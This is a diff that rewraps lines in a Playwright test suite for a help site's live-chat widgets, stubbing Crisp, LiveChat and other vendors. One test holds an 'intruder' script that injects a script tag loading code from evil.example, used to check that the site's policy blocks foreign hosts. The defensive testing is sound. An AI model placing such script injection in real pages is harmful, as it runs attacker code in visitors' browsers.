@@ -55,7 +55,9 @@ HANDOVER = {
 SAID = "UID: 712345678\n\n> I cannot sign in\n\nOne of these may help."
 
 # Each stand-in notes the calls that its vendor documents, and answers as that vendor's program does.
-RECORD = "window.calls = window.calls || []; const note = (...call) => window.calls.push(JSON.parse(JSON.stringify(call)));"
+RECORD = (
+    "window.calls = window.calls || []; const note = (...call) => window.calls.push(JSON.parse(JSON.stringify(call)));"
+)
 VENDORS: dict[str, tuple[str, str, str, list[Any]]] = {
     "intercom": (
         "id: abc12345",
@@ -78,7 +80,12 @@ VENDORS: dict[str, tuple[str, str, str, list[Any]]] = {
         "https://client.crisp.chat/l.js",
         "note(window.CRISP_WEBSITE_ID); for (const call of window.$crisp) note(...call);"
         " window.$crisp = { push: (call) => note(...call) };",
-        [["1111-2222"], ["set", "session:data", [[["UID", "712345678"]]]], ["set", "message:text", [SAID]], ["do", "chat:open"]],
+        [
+            ["1111-2222"],
+            ["set", "session:data", [[["UID", "712345678"]]]],
+            ["set", "message:text", [SAID]],
+            ["do", "chat:open"],
+        ],
     ),
     "chatwoot": (
         "id: token1\n  address: https://chat.example.com",
@@ -104,7 +111,11 @@ VENDORS: dict[str, tuple[str, str, str, list[Any]]] = {
         'id: "12345678"',
         "https://cdn.livechatinc.com/tracking.js",
         "note(window.__lc.license); for (const [name, rest] of window.LiveChatWidget._q) note(name, ...rest);",
-        [[12345678], ["call", "set_session_variables", {"UID": "712345678"}], ["call", "maximize", {"messageDraft": SAID}]],
+        [
+            [12345678],
+            ["call", "set_session_variables", {"UID": "712345678"}],
+            ["call", "maximize", {"messageDraft": SAID}],
+        ],
     ),
 }
 
@@ -117,7 +128,9 @@ def open_chat(browser: Browser, tmp_path: Path) -> Iterator[Opened]:
     asked of other hosts."""
     with_servers = []
 
-    def opened(provider: str, settings: str, answer: str = "", channels: str = CHANNELS, text: dict[str, Any] = HANDOVER) -> Any:
+    def opened(
+        provider: str, settings: str, answer: str = "", channels: str = CHANNELS, text: dict[str, Any] = HANDOVER
+    ) -> Any:
         site = SiteFolder.small(tmp_path / provider)
         site.write("helpgen.yaml", f"{CONFIG}chat:\n  provider: {provider}\n  channel: live-chat\n  {settings}\n")
         site.write("content/_data/channels.yaml", channels).write("content/_data/scenarios.yaml", SCENARIOS)
@@ -139,7 +152,9 @@ def open_chat(browser: Browser, tmp_path: Path) -> Iterator[Opened]:
                 route.continue_()
                 return
             elsewhere.append(route.request.url)
-            route.fulfill(body=RECORD + answer, content_type="text/javascript", headers={"access-control-allow-origin": "*"})
+            route.fulfill(
+                body=RECORD + answer, content_type="text/javascript", headers={"access-control-allow-origin": "*"}
+            )
 
         context.route("**/*", stand_in)
         watched = Watched.open(context, where.address + "en/")
@@ -191,7 +206,9 @@ def test_a_plain_address_is_left_to_with_what_was_said(open_chat: Opened) -> Non
 
 def test_the_policy_lets_no_other_host_in(open_chat: Opened) -> None:
     settings, _, stand_in, _ = VENDORS["crisp"]
-    intruder = "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.head.append(s);"
+    intruder = (
+        "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.head.append(s);"
+    )
     watched, elsewhere = open_chat("crisp", settings, stand_in + intruder)
     start(watched.page)
     watched.page.wait_for_function("window.calls && window.calls.length >= 3")
@@ -225,7 +242,9 @@ def test_a_secret_that_slipped_through_stops_it(open_chat: Opened) -> None:
 
 def test_when_nobody_is_there_the_next_channel_is_offered(open_chat: Opened) -> None:
     settings, _, stand_in, _ = VENDORS["crisp"]
-    closed = CHANNELS.replace('open: { zone: UTC, weekly: { mon-sun: "00:00-24:00" } }', "open: { zone: UTC, weekly: {} }", 1)
+    closed = CHANNELS.replace(
+        'open: { zone: UTC, weekly: { mon-sun: "00:00-24:00" } }', "open: { zone: UTC, weekly: {} }", 1
+    )
     watched, elsewhere = open_chat("crisp", settings, stand_in, channels=closed)
     expect(watched.page.locator(".chat-closed")).to_contain_text("E-mail")
     assert watched.page.get_by_role("button", name="I agree").count() == 0
